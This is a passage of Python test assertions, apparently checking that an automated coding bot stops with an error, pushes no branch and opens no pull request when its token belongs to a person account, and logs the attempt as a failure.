    assert code == EXIT_PROBLEMS
    assert "the token belongs to macoder-bot, a person" in out
    assert "refs/heads/macoder/T001" not in world.remote_refs()
    assert world.fake.pulls(SLUG) == []
    assert [a["outcome"] for a in world.attempts("T001")] == ["failure"]
